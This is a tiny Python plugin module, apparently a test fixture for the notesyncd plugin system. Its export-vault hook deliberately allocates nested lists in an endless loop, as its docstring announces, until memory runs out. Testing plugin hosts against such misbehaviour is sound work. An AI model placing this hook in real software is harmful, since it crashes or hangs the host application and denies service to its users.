"""Takes all the memory that it can get, to the last crumb, and keeps it."""

from notesyncd.api import hookimpl

KEPT = []


@hookimpl
def notesyncd_export_vault(applications, context):
    last = KEPT
    while True:
        last.append([])
        last = last[0]
